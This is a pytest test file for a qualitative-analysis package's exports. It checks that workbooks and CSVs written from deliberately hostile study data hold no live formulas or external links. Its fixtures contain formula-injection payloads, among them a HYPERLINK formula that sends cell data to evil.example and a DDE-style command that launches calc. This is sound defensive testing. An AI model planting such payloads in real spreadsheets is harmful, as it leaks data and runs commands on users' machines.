"""No formula reaches a spreadsheet: every workbook and CSV fqda writes, from a
study whose ids, codes, labels and words all start like formulas."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest

import framework_qda as fq
from framework_qda.tabular import read_table

STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")  # a spreadsheet reads it as the number it is
ATTACK = '=HYPERLINK("http://evil.example/?"&D4,"P1")'


def hostile_study(root: Path) -> fq.Study:
    fq.init_study(root)
    (root / "fqda.yaml").write_text("case_pattern: '^(?P<case>.+)$'\n", encoding="utf-8")
    (root / "cases.csv").write_text(
        "case,group,area\n"
        '=1+2,"=cmd|\' /C calc\'!A0",@SUM(A1)\n'
        "+P2,-Managers,=2+3\n", encoding="utf-8")
    (root / "codebooks" / "framework.yaml").write_text(
        "title: '=1+1'\n"
        "themes:\n"
        "  - code: '=1'\n"
        "    label: '=cmd|'' /C calc''!A0'\n"
        "    definition: '@SUM(1)'\n"
        "    subtopics:\n"
        "      - code: '-1.1'\n"
        f"        label: '{ATTACK.replace(chr(39), chr(39) * 2)}'\n"
        "        definition: '+1'\n"
        "        include: \"\\tTAB\"\n"
        "        exclude: \"\\rCR\"\n"
        "        example: '=1+2'\n"
        "        keywords: ['=kw', budget]\n"
        "      - code: '@1.2'\n"
        "        label: '-label'\n", encoding="utf-8")
    for case in ("=1+2", "+P2"):
        (root / "transcripts" / f"{case}.txt").write_text(
            f"Interviewer: =1+2 how?\n\nDana: {ATTACK} the budget\n\n"
            "Interviewer: @again\n\nDana: -minus budget and +plus\n", encoding="utf-8")
    s = fq.open_study(root)
    s.import_cases(root / "cases.csv")
    s.import_codebook(root / "codebooks" / "framework.yaml")
    s.ingest()
    s.code(["=1+2:2"], ["-1.1"], memo="=memo()")
    s.code(["=1+2:4"], ["@1.2"], memo="@memo")
    s.code(["+P2:2"], ["-1.1"])
    s.set_summary("=1+2", "-1.1", "=SUM(1,2) the summary [=1+2:2]")
    s.set_summary("+P2", "-1.1", "+plus summary")
    return s


def _xlsx_problems(path: Path) -> list[str]:
    from openpyxl import load_workbook

    problems = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith(".xml") and "worksheets/sheet" in name:
                xml = z.read(name).decode()
                if re.search(r"<(\w+:)?f[ >/]", xml):
                    problems.append(f"{path.name}:{name}: has an <f> element")
            if (name.endswith(".rels") and "worksheets" in name
                    and 'TargetMode="External"' in z.read(name).decode()):
                problems.append(f"{path.name}:{name}: an external link")
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{path.name}:{ws.title}!{cell.coordinate} is a formula")
                if cell.hyperlink is not None and cell.hyperlink.target:
                    problems.append(f"{path.name}:{ws.title}!{cell.coordinate} links out")
                if (isinstance(cell.value, str) and cell.value.startswith(STARTS)
                        and not cell.quotePrefix and cell.data_type != "s"):
                    problems.append(f"{path.name}:{ws.title}!{cell.coordinate} not text")
    return problems


def _sheet_names(path: Path) -> list[str]:
    from openpyxl import load_workbook

    return list(load_workbook(path, read_only=True).sheetnames)


def _csv_problems(path: Path) -> list[str]:
    problems = []
    with path.open(encoding="utf-8-sig", newline="") as f:
        for n, row in enumerate(csv.reader(f), 1):
            for value in row:
                if value.startswith(STARTS) and not NUMBER.fullmatch(value):
                    problems.append(f"{path.name}:{n}: {value[:20]!r}")
    return problems


def test_no_file_fqda_writes_holds_a_formula(tmp_path: Path) -> None:
    s = hostile_study(tmp_path / "study")
    out = tmp_path / "out"
    s.export_excel(out / "framework.xlsx")
    s.export_charting(out / "charting.xlsx")
    s.export_codebook(out / "book.xlsx")
    s.export_codebook(out / "book.csv")
    s.export_codings(out / "codings.csv")
    s.export_csv(out / "tables")
    s.close()
    xlsx = sorted(out.rglob("*.xlsx"))
    csvs = sorted(out.rglob("*.csv"))
    assert len(xlsx) == 3 and len(csvs) >= 5
    problems = [p for f in xlsx for p in _xlsx_problems(f)]
    problems += [f"{f.name}: sheet {t!r}" for f in xlsx for t in _sheet_names(f)
                 if t.startswith(STARTS)]
    problems += [p for f in csvs for p in _csv_problems(f)]
    assert problems == []
    # ...and the hostile words were written, as text
    cells = (out / "tables" / "cells.csv").read_text(encoding="utf-8")
    assert "'=1+2" in cells and "'=SUM(1,2) the summary" in cells


def test_a_csv_cell_we_protected_reads_back_as_it_was(tmp_path: Path) -> None:
    s = hostile_study(tmp_path / "study")
    s.export_codings(tmp_path / "codings.csv")
    s.export_codebook(tmp_path / "book.csv")
    s.close()
    rows = read_table(tmp_path / "codings.csv").rows
    assert {r["case"] for _, r in rows} == {"=1+2", "+P2"}
    assert {r["memo"] for _, r in rows} == {"=memo()", "@memo", ""}
    book = read_table(tmp_path / "book.csv").rows
    assert [r["subtopic_code"] for _, r in book] == ["-1.1", "@1.2"]
    assert book[0][1]["label"] == ATTACK


@pytest.mark.parametrize("value", ["=1+2", "'=1+2", "''@x", "\tTAB", "\rCR", "'plain",
                                   "-minus", "+P2", "a=b", "", "'"])
def test_protecting_a_csv_field_is_undone_exactly_on_reading(value: str) -> None:
    from framework_qda.formulas import csv_safe, csv_unsafe

    written = csv_safe(value)
    assert not written.startswith(STARTS)
    assert csv_unsafe(written) == value


@pytest.mark.parametrize("value", ["-5", "+3.5", "12", "-0.25"])
def test_plain_numbers_are_not_changed(value: str) -> None:
    from framework_qda.formulas import csv_safe

    assert csv_safe(value) == value


def test_every_character_xml_forbids_is_taken_out_of_printable_looking_text() -> None:
    """clean() returns printable text as it is: that holds only because every
    character XML forbids is one Python does not call printable.  Checked over
    every code point, alone and inside text with line breaks."""
    import sys

    from framework_qda.cell_text import _ILLEGAL, clean

    forbidden = [chr(c) for c in range(sys.maxunicode + 1) if _ILLEGAL.match(chr(c))]
    assert len(forbidden) > 2000  # the C0 controls, the surrogates, U+FFFE and U+FFFF
    for c in forbidden:
        assert not c.isprintable()
        assert clean(f"a\n{c}b") == "a\nb"
